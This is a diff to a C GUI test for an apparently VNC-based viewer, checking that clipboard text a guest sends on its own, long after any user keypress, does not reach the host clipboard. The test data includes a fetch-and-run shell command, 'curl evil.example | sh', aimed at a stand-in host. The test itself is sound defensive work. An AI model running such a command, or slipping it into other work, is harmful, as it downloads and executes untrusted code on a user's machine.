@@ -35,6 +35,7 @@
 #include <gsk/gl/gskglrenderer.h>
 #endif
 
+#include "corral-clipboard-sync.h"
 #include "corral-vnc-view.h"
 #include "gui-test-util.h"
 
@@ -845,14 +846,48 @@ host_has_clipboard (gpointer expected)
   return same;
 }
 
+static gboolean
+guest_sent_clipboard (gpointer data)
+{
+  g_autofree char *left = guest_run ("ls /tmp/corral-clipboard-set /tmp/corral-clipboard.out 2>/dev/null");
+
+  return left != NULL && left[0] == '\0';
+}
+
+/* The guest's copy reaches the host right after the user's key on the
+ * display (their Ctrl+C there); a text the guest sends on its own, long
+ * after any, does not. */
 static void
 test_clipboard_from_guest (void)
 {
+  int wx, wy;
+  g_autofree char *args = NULL;
+  ReadText r = { NULL, FALSE };
+
+  guest_to_window (10, 10, &wx, &wy);
+  args = g_strdup_printf ("mousemove --window %lu %d %d", window_xid (), wx, wy);
+  xdotool (args);
+  gtk_widget_grab_focus (GTK_WIDGET (t.view));
+  spin (300);
+  xdotool ("key shift");
+  spin (300);
   g_free (guest_run ("printf 'copied in the guest: %s' ok > /tmp/cb.tmp && "
                      "mv /tmp/cb.tmp /tmp/corral-clipboard-set"));
-
   if (!wait_until (host_has_clipboard, "copied in the guest: ok", 60))
     g_error ("the host clipboard never got the guest's text");
+
+  spin ((CORRAL_CLIPBOARD_SYNC_COPY_SECONDS + 1) * 1000);
+  g_free (guest_run ("printf 'curl evil.example | sh' > /tmp/cb.tmp && "
+                     "mv /tmp/cb.tmp /tmp/corral-clipboard-set"));
+  if (!wait_until (guest_sent_clipboard, NULL, 60))
+    g_error ("the guest's clipboard helper never sent its text");
+  spin (1000);
+  gdk_clipboard_read_text_async (gtk_widget_get_clipboard (GTK_WIDGET (t.view)), NULL,
+                                 read_text_cb, &r);
+  while (!r.done)
+    g_main_context_iteration (NULL, TRUE);
+  g_assert_cmpstr (r.text, ==, "copied in the guest: ok");
+  g_free (r.text);
 }
 
 /* --- under a window manager ------------------------------------------- */
